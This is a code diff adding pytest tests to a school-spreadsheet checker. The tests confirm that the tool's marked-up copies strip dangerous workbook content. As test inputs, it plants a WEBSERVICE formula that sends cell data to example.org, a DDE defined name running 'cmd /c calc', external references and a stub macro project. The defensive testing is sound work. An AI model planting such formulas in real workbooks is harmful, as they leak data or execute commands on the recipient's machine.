@@ -1,5 +1,7 @@
 """``quality check``: findings for people and programs, and marked-up copies to send back to the school."""
 
+import html
+import io
 import json
 import os
 import pty
@@ -13,9 +15,15 @@ from pathlib import Path
 import openpyxl
 import pytest
 from calling import call
+from openpyxl.chart import BarChart, Reference
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.packaging.custom import StringProperty
 from openpyxl.styles import Font, PatternFill
 from openpyxl.workbook import Workbook
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.table import Table
 from openpyxl.worksheet.worksheet import Worksheet
 
 SCHOOL = "vo-01"
@@ -256,3 +264,69 @@ def test_a_formula_that_reaches_out_comes_back_as_text(data: Path, tmp_path: Pat
         sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name)
     assert re.findall(r"<f>(.*?)</f>", sheets).count("SUM(A1:A2)") == 1
     assert not re.search(r"<f>[^<]*(cmd|HYPERLINK|чужая)", sheets)
+
+
+def test_a_copy_is_plain_cells_whatever_the_book_carries(data: Path, tmp_path: Path) -> None:
+    path = data / "школа 1" / "отметки.xlsx"
+    book = openpyxl.load_workbook(path)
+    sheet = book["Отметки"]
+    evil = 'WEBSERVICE("http://example.org/"&G2)'
+    book.defined_names["Пуск"] = DefinedName("Пуск", attr_text="cmd|'/c calc'!$A$1")
+    sheet.defined_names["Местное"] = DefinedName("Местное", attr_text="[1]Лист!$A$1")
+    sheet.conditional_formatting.add("A1:A9", FormulaRule([evil], fill=PatternFill("solid", fgColor="00FF00")))
+    rule = DataValidation(type="custom", formula1=evil)
+    rule.add("B2")
+    sheet.add_data_validation(rule)
+    sheet["L1"], sheet["L1"].hyperlink = "сюда", "http://example.org/"
+    sheet.add_table(Table(displayName="Т", ref="A1:H4"))
+    chart = BarChart()
+    chart.add_data(Reference(sheet, min_col=6, min_row=1, max_row=4))
+    sheet.add_chart(chart, "N1")
+    other = BarChart()
+    other.add_data(Reference(sheet, min_col=6, min_row=1, max_row=4))
+    book.create_chartsheet("График").add_chart(other)
+    harmless = ("=SUM(A1:A2)", "=IF($F$2>Отметки!F3,\"да | нет\",'Отметки'!F4)", "=_xlfn.IFNA(A1,0)")
+    reaching = (f"={evil}", "=Пуск", "=SUM(Т[Класс])", "=_xlfn.UNKNOWN(A1)", "='[чужая.xlsx]Лист1'!A1", "={1,2}")
+    for row, formula in enumerate((*harmless, *reaching), start=20):
+        sheet.cell(row, 12, formula)
+    book.custom_doc_props.append(StringProperty(name="кто", value=PERSON))
+    book.save(path)
+    call("check", data, "--marked", tmp_path / "копии")
+    with zipfile.ZipFile(tmp_path / "копии" / "школа 1" / "отметки.xlsx") as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist()}
+    allowed = r"\[Content_Types\].xml|_rels/.rels|docProps/(app|core).xml|xl/(workbook|styles|sharedStrings).xml"
+    sheets = r"xl/theme/theme1.xml|xl/_rels/workbook.xml.rels|xl/worksheets/(sheet\d.xml|_rels/sheet\d.xml.rels)"
+    comments = r"xl/comments/comment\d.xml|xl/drawings/commentsDrawing\d.vml"
+    assert [name for name in parts if not re.fullmatch(f"{allowed}|{sheets}|{comments}", name)] == []
+    whole = re.sub("<t>.*?</t>", "", "".join(parts.values()), flags=re.DOTALL)  # without texts
+    for trace in ("example.org", "cmd|", "Пуск<", "conditionalFormatting", "dataValidation", "External", "tablePart"):
+        assert trace not in whole, trace
+    assert [html.unescape(found) for found in re.findall(r"<f>(.*?)</f>", whole)] == [
+        *("5+5", *["1+1"] * 6),
+        *(formula[1:] for formula in harmless),
+    ]
+    copy = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")["Отметки"]
+    assert [copy.cell(row, 12).value for row in range(20, 29)] == [*harmless, *reaching]
+    assert copy["L1"].value == "сюда"
+
+
+def test_a_book_with_macros_comes_back_without_them(data: Path, tmp_path: Path) -> None:
+    path = data / "школа 1" / "отметки.xlsx"
+    content = path.read_bytes()
+    path.unlink()
+    with zipfile.ZipFile(io.BytesIO(content)) as book, zipfile.ZipFile(path.with_suffix(".xlsm"), "w") as target:
+        for name in book.namelist():
+            target.writestr(name, book.read(name))
+        target.writestr("xl/vbaProject.bin", b"Sub Auto_Open()")
+    call("check", data, "--marked", tmp_path / "копии")
+    with zipfile.ZipFile(tmp_path / "копии" / "школа 1" / "отметки.xlsm.xlsx") as archive:
+        assert not [name for name in archive.namelist() if "vba" in name]
+        assert "macroEnabled" not in archive.read("[Content_Types].xml").decode()
+
+
+def test_two_files_whose_copies_would_have_one_name(data: Path, tmp_path: Path) -> None:
+    book = openpyxl.load_workbook(data / "школа 1" / "отметки.xlsx")
+    book.save(data / "таблица.csv.xlsx")
+    outcome = call("check", data, "--marked", tmp_path / "копии")
+    assert "Размеченных копий: 3" in outcome.out
+    assert {path.name for path in (tmp_path / "копии").glob("таблица*")} == {"таблица.csv.xlsx", "таблица.csv (2).xlsx"}
